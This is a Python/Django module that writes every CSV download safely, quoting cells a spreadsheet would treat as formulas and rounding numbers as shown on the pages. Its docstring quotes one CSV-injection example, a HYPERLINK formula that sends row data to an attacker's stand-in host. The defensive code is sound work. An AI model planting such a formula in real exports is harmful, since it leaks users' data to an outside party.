"""CSV downloads: the one writer for every CSV file the product sends, safe to open in a spreadsheet.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula
(CSV injection: ``=HYPERLINK("http://attacker.example/?"&A1,"detail")`` in a pooled budget's name would send the
row to the attacker's site when clicked). Such text cells are written with a leading single quote, as OWASP
advises, so the spreadsheet shows them as text. Numbers stay numbers: -1.5 is written as -1.5.

Numbers are written as the pages show them, to 2 decimal places (8.651599999999998 is written 8.65), except the
statistics a page does not round that way (a trend's slope and p-value), which keep 6 significant figures.
"""

import csv
import re
from collections.abc import Iterable
from decimal import Decimal

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DECIMAL_PLACES = 2
PRECISE_COLUMNS = frozenset({"trend_slope", "trend_p_value", "p_value", "slope"})
# A plain number as the product writes one (ASCII digits, optional sign, decimals and exponent): never a formula.
_PLAIN_NUMBER = re.compile(r"-?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")


def safe_cell(value: object) -> object:
    """The value as it may go into a CSV cell: numbers unchanged, text that a spreadsheet would run quoted."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_row(row: Iterable) -> list:
    """Every cell of one row made safe."""
    return [safe_cell(value) for value in row]


def as_shown(value: object, precise: bool = False) -> object:
    """A float rounded as the pages show it (2 decimal places; 6 significant figures when `precise`)."""
    if not isinstance(value, float) or value != value or value in (float("inf"), float("-inf")):
        return value
    rounded = float(f"{value:.6g}") if precise else round(value, DECIMAL_PLACES)
    return rounded + 0.0  # no "-0.0"


def csv_response(filename: str, rows: Iterable[Iterable], header: Iterable | None = None) -> HttpResponse:
    """A CSV download (UTF-8, as an attachment named `filename`) of the header, if any, and the rows, numbers
    rounded as on the page."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    writer = csv.writer(response)
    precise: set[int] = set()
    if header is not None:
        header = list(header)
        precise = {i for i, name in enumerate(header) if str(name) in PRECISE_COLUMNS}
        writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(safe_row(as_shown(value, i in precise) for i, value in enumerate(row)))
    return response
